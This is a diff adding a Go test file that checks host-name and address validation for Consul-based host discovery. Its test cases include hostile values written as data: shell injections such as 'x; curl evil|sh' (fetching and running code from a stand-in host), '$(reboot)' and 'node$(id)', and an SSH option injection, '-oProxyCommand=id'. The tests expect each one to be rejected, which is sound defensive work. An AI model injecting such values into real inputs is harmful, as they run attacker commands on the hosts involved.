@@ -0,0 +1,70 @@
+package main
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/spf13/viper"
+)
+
+func TestCheckDiscoveredHost(t *testing.T) {
+	tests := []struct {
+		name    string
+		host    Host
+		wantErr bool
+	}{
+		{"ip", Host{Name: "node-1", Address: "10.0.0.1"}, false},
+		{"ipv6", Host{Name: "node-1", Address: "2001:db8::1"}, false},
+		{"host name", Host{Name: "node_1.dc1", Address: "node-1.example.com", Group: "validators"}, false},
+		{"command in address", Host{Name: "node-1", Address: "x; curl evil|sh"}, true},
+		{"option as address", Host{Name: "node-1", Address: "-oProxyCommand=id"}, true},
+		{"empty address", Host{Name: "node-1"}, true},
+		{"command in name", Host{Name: "node$(id)", Address: "10.0.0.1"}, true},
+		{"space in name", Host{Name: "node 1", Address: "10.0.0.1"}, true},
+		{"quote in group", Host{Name: "node-1", Address: "10.0.0.1", Group: "a'b"}, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := checkDiscoveredHost(tt.host); (err != nil) != tt.wantErr {
+				t.Errorf("err = %v, want an error: %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestDiscoverConsulSkipsUnsafeInstances(t *testing.T) {
+	catalog := []map[string]interface{}{
+		{"Node": "node-1", "Address": "10.0.0.1", "ServiceMeta": map[string]string{"group": "validators"}},
+		{"Node": "node-2", "Address": "10.0.0.2", "ServiceAddress": "x; curl evil|sh"},
+		{"Node": "node-3", "Address": "10.0.0.3", "ServiceMeta": map[string]string{"group": "$(reboot)"}},
+		{"Node": "node 4", "Address": "10.0.0.4"},
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if !strings.HasPrefix(r.URL.Path, "/v1/catalog/service/") {
+			http.NotFound(w, r)
+			return
+		}
+		json.NewEncoder(w).Encode(catalog)
+	}))
+	defer srv.Close()
+
+	cfg := viper.New()
+	cfg.Set("address", srv.URL)
+	cfg.Set("service", "node-exporter")
+	cfg.Set("groupMeta", "group")
+	hosts, err := discoverConsul(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, h := range hosts {
+		names = append(names, h.Name)
+	}
+	if want := []string{"node-1"}; !reflect.DeepEqual(names, want) {
+		t.Errorf("discovered %v, want %v", names, want)
+	}
+}